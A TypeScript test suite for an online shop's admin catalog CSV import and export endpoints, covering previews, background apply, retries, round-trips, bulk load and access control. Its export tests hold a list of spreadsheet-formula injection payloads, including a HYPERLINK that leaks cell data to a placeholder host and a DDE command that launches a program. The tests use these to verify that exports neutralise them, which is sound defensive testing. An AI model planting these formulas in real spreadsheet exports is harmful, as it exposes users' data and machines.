import {
  type CatalogImport,
  catalogImportRowListSchema,
  catalogImportSchema,
} from '@shop/contract/categories-admin';
import { errorEnvelopeSchema } from '@shop/contract/errors';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createCategory, createProduct } from '../../../test/fixtures/catalog';
import { type Customer, signedInCustomer, staffMember } from '../../../test/fixtures/orders';
import { createTestApp, type TestApp } from '../../../test/test-app';
import { csvCell, parseCsv } from '../../lib/csv';
import { IMPORT_HEADER, readImportFile } from '../catalog/import/import-products';
import { applyBatch, batchesOf } from './bulk-import';
import { applyImport } from './imports.service';

const IMPORTS = '/api/v1/admin/catalog/imports/';
const EXPORT = '/api/v1/admin/catalog/export.csv';

let harness: TestApp;
let staff: Customer;
let customer: Customer;
beforeAll(async () => {
  harness = await createTestApp({ AUTH_TEST_FAST_HASHING: 'true' });
  staff = await staffMember(harness.app);
  customer = await signedInCustomer(harness.app);
  await createCategory(harness.database.pool, { name: 'Gin', slug: 'gin' });
});
afterAll(() => harness?.close());

type Row = Partial<Record<string, string | number | boolean>>;
const columns = IMPORT_HEADER.split(',');
const csv = (rows: Row[]) =>
  `${IMPORT_HEADER}\n${rows.map((row) => columns.map((column) => csvCell(row[column] as string)).join(',')).join('\n')}\n`;

const gin = (n: number, overrides: Row = {}): Row => ({
  product_slug: `bulk-gin-${n}`,
  name: `Bulk Gin ${n}`,
  category: 'gin',
  product_type: 'spirit',
  country: 'Uganda',
  abv: '43',
  description: `Gin number ${n}, "small batch", distilled`,
  sku: `BULK-GIN-${n}`,
  variant_name: '750 ml bottle',
  volume_ml: 750,
  price: 50_000 + n,
  stock: 5,
  is_default: 'true',
  ...overrides,
});

async function upload(text: string, client = staff.client, name = 'products.csv') {
  return client.request({
    method: 'POST',
    url: `${IMPORTS}?file_name=${encodeURIComponent(name)}`,
    payload: text,
    headers: { 'content-type': 'text/csv' },
  });
}

async function waitUntilApplied(id: number, timeout = 50_000): Promise<CatalogImport> {
  let current: CatalogImport | undefined;
  await expect
    .poll(
      async () => {
        current = catalogImportSchema.parse((await staff.client.get(`${IMPORTS}${id}/`)).json());
        return current.status;
      },
      { timeout, interval: 100 },
    )
    .toMatch(/done|failed/);
  return current!;
}

async function catalogState() {
  const result = await harness.database.pool.query(
    `SELECT p.slug, p.name, p.description, p.updated_at, p.category_id, v.sku, v.price, v.stock, v.is_default, v.sort_order,
            (SELECT array_agg(url ORDER BY sort_order) FROM product_images i WHERE i.product_id = p.id) AS images
     FROM products p JOIN product_variants v ON v.product_id = p.id ORDER BY p.slug, v.sku`,
  );
  return result.rows;
}

describe('upload and preview', () => {
  it('previews counts and row-level errors, and writes nothing to the catalog', async () => {
    await createProduct(harness.database.pool, {
      categoryId: (await harness.database.pool.query("SELECT id FROM categories WHERE slug = 'gin'")).rows[0]
        .id,
      slug: 'bulk-gin-2',
      name: 'Bulk Gin 2',
      variants: [{ sku: 'BULK-GIN-2', price: 40_000, stock: 1, isDefault: true }],
    });
    const before = await catalogState();
    const text = csv([gin(1), gin(2), gin(3, { price: 'cheap' }), gin(4, { category: 'no-such-category' })]);
    const response = await upload(text);
    expect(response.statusCode).toBe(201);
    const preview = catalogImportSchema.parse(response.json());
    expect(preview).toMatchObject({
      status: 'previewed',
      file_name: 'products.csv',
      row_count: 4,
      counts: { new: 1, updated: 1, unchanged: 0, errors: 2 },
      error_count: 2,
    });
    expect(preview.errors).toEqual([
      { line: 4, column: 'price', message: expect.stringContaining('whole number of shillings') },
      { line: 5, column: 'category', message: expect.stringContaining('is not a category') },
    ]);
    expect(await catalogState()).toEqual(before);

    // Applying a preview with errors is refused; the report lists every row.
    const refused = await staff.client.post(`${IMPORTS}${preview.id}/apply/`);
    expect(refused.statusCode).toBe(409);
    expect(errorEnvelopeSchema.parse(refused.json()).error.message).toContain('2 problems');
    const report = await staff.client.get(`${IMPORTS}${preview.id}/report.csv`);
    expect(report.headers['content-type']).toContain('text/csv');
    const lines = parseCsv(report.body).map((record) => record.fields.slice(0, 4));
    expect(lines).toEqual([
      ['line', 'product_slug', 'sku', 'outcome'],
      ['2', 'bulk-gin-1', 'BULK-GIN-1', 'created'],
      ['3', 'bulk-gin-2', 'BULK-GIN-2', 'updated'],
      ['4', 'bulk-gin-3', 'BULK-GIN-3', 'error'],
      ['5', 'bulk-gin-4', 'BULK-GIN-4', 'error'],
    ]);

    // The preview says what each row will change: an updated row's fields, before → after.
    const first = await staff.client.get(`${IMPORTS}${preview.id}/rows/?page_size=2`);
    expect(first.statusCode).toBe(200);
    const page = catalogImportRowListSchema.parse(first.json());
    expect(page).toMatchObject({ count: 4, total_pages: 2, next: 2 });
    expect(page.results.map((row) => [row.line, row.outcome, row.applied])).toEqual([
      [2, 'created', false],
      [3, 'updated', false],
    ]);
    expect(page.results[0]!.changes).toEqual([]);
    expect(page.results[1]!.changes).toEqual(
      expect.arrayContaining([
        { field: 'price', before: '40000', after: '50002' },
        { field: 'stock', before: '1', after: '5' },
      ]),
    );
    expect(page.results[1]!.changes.map((change) => change.field)).not.toContain('name');
    const second = catalogImportRowListSchema.parse(
      (await staff.client.get(`${IMPORTS}${preview.id}/rows/?page=2&page_size=2`)).json(),
    );
    expect(second.results.map((row) => [row.line, row.outcome])).toEqual([
      [4, 'error'],
      [5, 'error'],
    ]);
    expect(second.next).toBeNull();
    expect((await staff.client.get(`${IMPORTS}999999/rows/`)).statusCode).toBe(404);
    const bad = await staff.client.get(`${IMPORTS}${preview.id}/rows/?page=0`);
    expect(bad.statusCode).toBe(422);
    expect(errorEnvelopeSchema.parse(bad.json()).error.fields?.[0]?.field).toBe('page');
  });

  it('reports a broken header as an error', async () => {
    const preview = catalogImportSchema.parse((await upload('product_slug,colour\nx,red\n')).json());
    expect(preview.counts.errors).toBeGreaterThan(0);
    expect(preview.errors.map((error) => error.column)).toEqual(
      expect.arrayContaining(['colour', 'name', 'sku']),
    );
  });

  it('refuses an empty or non-CSV body', async () => {
    const json = await staff.client.post(IMPORTS, { rows: [] });
    expect(json.statusCode).toBe(422);
    const notFound = await staff.client.get(`${IMPORTS}999999/`);
    expect(notFound.statusCode).toBe(404);
  });
});

describe('apply', () => {
  it('applies in the background, reports each row, audits the run; applying again is refused', async () => {
    const text = csv([
      gin(10),
      gin(11),
      gin(12, {
        sku: 'BULK-GIN-12-C6',
        variant_name: 'Case of 6',
        pack_size: 6,
        is_default: 'false',
        price: 300_000,
      }),
      gin(12),
    ]);
    const preview = catalogImportSchema.parse((await upload(text, staff.client, 'three.csv')).json());
    expect(preview.counts).toEqual({ new: 4, updated: 0, unchanged: 0, errors: 0 });
    const started = await staff.client.post(`${IMPORTS}${preview.id}/apply/`);
    expect(started.statusCode).toBe(202);
    const done = await waitUntilApplied(preview.id);
    expect(done).toMatchObject({
      status: 'done',
      result: { created: 4, updated: 0, unchanged: 0 },
      progress: { percent: 100 },
    });

    const product = await harness.app.inject({
      method: 'GET',
      url: '/api/v1/products/products/bulk-gin-12/',
    });
    expect(product.statusCode).toBe(200);
    expect(product.json().variants.map((variant: { sku: string }) => variant.sku)).toEqual([
      'BULK-GIN-12',
      'BULK-GIN-12-C6',
    ]);

    const again = await staff.client.post(`${IMPORTS}${preview.id}/apply/`);
    expect(again.statusCode).toBe(409);

    const report = parseCsv((await staff.client.get(`${IMPORTS}${preview.id}/report.csv`)).body);
    expect(report.slice(1).map((record) => [record.fields[3], record.fields[5]])).toEqual(
      Array(4).fill(['created', 'true']),
    );
    const audit = await harness.database.pool.query(
      `SELECT kind, actor_name, after FROM audit_entries WHERE subject_type = 'catalog_import' AND subject_id = $1 ORDER BY id`,
      [String(preview.id)],
    );
    expect(audit.rows.map((row) => row.kind)).toEqual(['catalog_import.preview', 'catalog_import.apply']);
    expect(audit.rows[1]).toMatchObject({ actor_name: 'Grace Nansubuga', after: { created: 4 } });
  });

  it('is idempotent: a batch applied twice changes nothing the second time', async () => {
    const text = csv([gin(20), gin(21, { price: 61_000 })]);
    const products = readImportFile(text).products;
    const [batch] = batchesOf(products);
    const first = await harness.app.db.transaction((tx) => applyBatch(tx, batch!));
    expect(first.map((row) => row.outcome)).toEqual(['created', 'created']);
    const after = await catalogState();
    const second = await harness.app.db.transaction((tx) => applyBatch(tx, batch!));
    expect(second.map((row) => row.outcome)).toEqual(['unchanged', 'unchanged']);
    expect(await catalogState()).toEqual(after);
  });

  it('changes stock through the ledger: a new count is a correction, and the ledger still sums to the stock', async () => {
    const [batch] = batchesOf(readImportFile(csv([gin(40)])).products);
    await harness.app.db.transaction((tx) => applyBatch(tx, batch!));
    const [recount] = batchesOf(readImportFile(csv([gin(40, { stock: 2 })])).products);
    await harness.app.db.transaction((tx) => applyBatch(tx, recount!));
    const ledger = await harness.database.pool.query(
      `SELECT v.stock, array_agg(m.delta ORDER BY m.id) AS deltas, sum(m.delta)::int AS total
       FROM product_variants v JOIN stock_movements m ON m.variant_id = v.id
       WHERE v.sku = 'BULK-GIN-40' GROUP BY v.stock`,
    );
    expect(ledger.rows).toEqual([{ stock: 2, deltas: [5, -3], total: 2 }]);
  });
});

describe('a retried job', () => {
  it('run twice at once (a retry while the first still runs) applies each batch once and reports it right', async () => {
    const text = csv([gin(30), gin(31), gin(32)]);
    const preview = catalogImportSchema.parse((await upload(text, staff.client, 'twice.csv')).json());
    // As the apply endpoint leaves it, without waking this instance's worker.
    await harness.database.pool.query(
      "UPDATE catalog_imports SET status = 'applying', applied_by_name = 'Grace Nansubuga', applied_by_role = 'staff' WHERE id = $1",
      [preview.id],
    );
    const runs = await Promise.allSettled([
      applyImport(harness.app.db, preview.id, { batchRows: 1 }),
      applyImport(harness.app.db, preview.id, { batchRows: 1 }),
    ]);
    expect(runs.map((run) => run.status)).toEqual(['fulfilled', 'fulfilled']);
    const done = catalogImportSchema.parse((await staff.client.get(`${IMPORTS}${preview.id}/`)).json());
    expect(done).toMatchObject({ status: 'done', result: { created: 3, updated: 0, unchanged: 0 } });
    const progress = await harness.database.pool.query(
      'SELECT batches_done, rows_done FROM catalog_imports WHERE id = $1',
      [preview.id],
    );
    expect(progress.rows[0]).toEqual({ batches_done: 3, rows_done: 3 });
    const applied = await harness.database.pool.query(
      "SELECT count(*)::int AS n FROM audit_entries WHERE kind = 'catalog_import.apply' AND subject_id = $1",
      [String(preview.id)],
    );
    expect(applied.rows[0].n).toBe(1);
  });
});

describe('export', () => {
  it('round-trips: exporting then importing the file previews no change, and applying changes nothing', async () => {
    const exported = await staff.client.get(EXPORT);
    expect(exported.statusCode).toBe(200);
    expect(exported.headers['content-type']).toContain('text/csv');
    expect(exported.headers['content-disposition']).toContain('attachment');
    const rows = parseCsv(exported.body).length - 1;
    expect(rows).toBeGreaterThan(5);

    const before = await catalogState();
    const preview = catalogImportSchema.parse(
      (await upload(exported.body, staff.client, 'export.csv')).json(),
    );
    expect(preview.errors).toEqual([]);
    expect(preview.counts).toEqual({ new: 0, updated: 0, unchanged: rows, errors: 0 });
    await staff.client.post(`${IMPORTS}${preview.id}/apply/`);
    const done = await waitUntilApplied(preview.id);
    expect(done.result).toEqual({ created: 0, updated: 0, unchanged: rows });
    expect(await catalogState()).toEqual(before);
  });

  // Text a spreadsheet would run (issue 33): each start of a formula, as names, descriptions and
  // tasting notes, including the tab and carriage return the import once trimmed away.
  const FORMULAS = [
    '=HYPERLINK("http://x/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    '+1+1',
    '-2+3',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    "'=already quoted",
  ];
  const formulas = `${EXPORT}?category=formulas`;
  const formulaProducts = async () => {
    const category = await createCategory(harness.database.pool, { name: 'Formulas', slug: 'formulas' });
    for (const [index, text] of FORMULAS.entries()) {
      await createProduct(harness.database.pool, {
        categoryId: category.id,
        slug: `formula-${index}`,
        name: text,
        description: text,
        tastingNotes: text,
      });
    }
  };

  it('writes no cell a spreadsheet would run: a formula’s start gets an apostrophe', async () => {
    await formulaProducts();
    const [header, ...records] = parseCsv((await staff.client.get(formulas)).body);
    const column = (name: string) => header!.fields.indexOf(name);
    for (const name of ['name', 'description', 'tasting_notes']) {
      expect(records.map((record) => record.fields[column(name)])).toEqual(
        FORMULAS.map((text) => `'${text}`),
      );
    }
    for (const record of records) {
      for (const cell of record.fields) {
        if (!/^[+-]?\d+(\.\d+)?$/.test(cell)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
  });

  it('round-trips those cells: importing the export changes nothing, and exports the same file again', async () => {
    // The products of the test before (tests of a file run in order).
    const exported = (await staff.client.get(formulas)).body;
    const before = await catalogState();
    const preview = catalogImportSchema.parse((await upload(exported, staff.client, 'formulas.csv')).json());
    expect(preview.errors).toEqual([]);
    expect(preview.counts).toEqual({ new: 0, updated: 0, unchanged: FORMULAS.length, errors: 0 });
    await staff.client.post(`${IMPORTS}${preview.id}/apply/`);
    expect((await waitUntilApplied(preview.id)).result).toMatchObject({ updated: 0 });
    expect(await catalogState()).toEqual(before);
    const names = await harness.database.pool.query<{ name: string }>(
      `SELECT name FROM products WHERE slug LIKE 'formula-%' ORDER BY slug`,
    );
    expect(names.rows.map((row) => row.name)).toEqual(FORMULAS);
    expect((await staff.client.get(formulas)).body).toBe(exported);
  });

  it('filters by category and by search', async () => {
    const other = await createCategory(harness.database.pool, { name: 'Beer', slug: 'beer' });
    await createProduct(harness.database.pool, {
      categoryId: other.id,
      slug: 'nile-special',
      name: 'Nile Special',
    });
    const beer = parseCsv((await staff.client.get(`${EXPORT}?category=beer`)).body);
    expect(beer.slice(1).map((record) => record.fields[0])).toEqual(['nile-special']);
    const search = parseCsv((await staff.client.get(`${EXPORT}?q=Bulk%20Gin%2012`)).body);
    expect(new Set(search.slice(1).map((record) => record.fields[0]))).toEqual(new Set(['bulk-gin-12']));
    expect((await staff.client.get(`${EXPORT}?category=Not%20a%20slug`)).statusCode).toBe(422);
  });
});

describe('20,000 rows', () => {
  it('import without blocking the shop: storefront requests answer quickly while it applies', async () => {
    // 10,000 products of two sizes each (a bottle and a case): 20,000 rows.
    const rows = Array.from({ length: 10_000 }, (_, index) => [
      gin(100_000 + index),
      gin(100_000 + index, {
        sku: `BULK-GIN-${100_000 + index}-C6`,
        variant_name: 'Case of 6',
        pack_size: 6,
        price: 300_000,
        is_default: 'false',
      }),
    ]).flat();
    const text = csv(rows);
    const uploadStarted = Date.now();
    const preview = catalogImportSchema.parse((await upload(text, staff.client, 'big.csv')).json());
    expect(preview.counts).toEqual({ new: 20_000, updated: 0, unchanged: 0, errors: 0 });
    const uploadMs = Date.now() - uploadStarted;

    await staff.client.post(`${IMPORTS}${preview.id}/apply/`);
    const latencies: number[] = [];
    let status = 'applying';
    const sawProgress = new Set<number>();
    while (status === 'applying') {
      const started = performance.now();
      const page = await harness.app.inject({
        method: 'GET',
        url: `/api/v1/products/products/?page=${1 + (latencies.length % 3)}`,
      });
      latencies.push(performance.now() - started);
      expect(page.statusCode).toBe(200);
      const current = catalogImportSchema.parse((await staff.client.get(`${IMPORTS}${preview.id}/`)).json());
      status = current.status;
      sawProgress.add(current.progress.percent);
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
    expect(status).toBe('done');
    const count = await harness.database.pool.query(
      "SELECT count(*)::int AS n FROM products WHERE slug LIKE 'bulk-gin-1_____'",
    );
    expect(count.rows[0].n).toBe(10_000);
    const sizes = await harness.database.pool.query(
      "SELECT count(*)::int AS n FROM product_variants WHERE sku LIKE 'BULK-GIN-1_____%'",
    );
    expect(sizes.rows[0].n).toBe(20_000);
    // Progress moved in steps (batches), and the shop kept answering.
    expect(sawProgress.size).toBeGreaterThan(2);
    latencies.sort((a, b) => a - b);
    const worst = latencies.at(-1)!;
    expect(
      worst,
      `upload ${uploadMs} ms, storefront latencies ${latencies.map(Math.round).join(', ')}`,
    ).toBeLessThan(3_000);
  }, 120_000);
});

describe('only staff reach the import and export endpoints', () => {
  const calls = [
    { method: 'POST', url: IMPORTS, payload: 'a,b\n1,2\n' },
    { method: 'GET', url: `${IMPORTS}1/` },
    { method: 'POST', url: `${IMPORTS}1/apply/` },
    { method: 'GET', url: `${IMPORTS}1/report.csv` },
    { method: 'GET', url: `${IMPORTS}1/rows/` },
    { method: 'GET', url: EXPORT },
  ] as const;

  it.each(calls)('$method $url: 401 for a visitor, 403 for a customer', async (call) => {
    const options = {
      method: call.method,
      url: call.url,
      ...('payload' in call ? { payload: call.payload, headers: { 'content-type': 'text/csv' } } : {}),
    };
    expect((await harness.app.inject(options)).statusCode).toBe(401);
    expect((await customer.client.request(options)).statusCode).toBe(403);
  });

  it('refuses a visitor before reading the upload: 401, not the 413 of a body read first', async () => {
    const tooBig = 'x'.repeat(26 * 1024 * 1024);
    const response = await harness.app.inject({
      method: 'POST',
      url: IMPORTS,
      payload: tooBig,
      headers: { 'content-type': 'text/csv' },
    });
    expect(response.statusCode).toBe(401);
  });

  it('are in the OpenAPI document', async () => {
    const paths = Object.keys(
      (await harness.app.inject({ method: 'GET', url: '/api/v1/openapi.json' })).json().paths,
    );
    for (const path of [
      '/api/v1/admin/catalog/imports/',
      '/api/v1/admin/catalog/imports/{id}/',
      '/api/v1/admin/catalog/imports/{id}/apply/',
      '/api/v1/admin/catalog/imports/{id}/report.csv',
      '/api/v1/admin/catalog/export.csv',
    ]) {
      expect(paths).toContain(path);
    }
  });
});
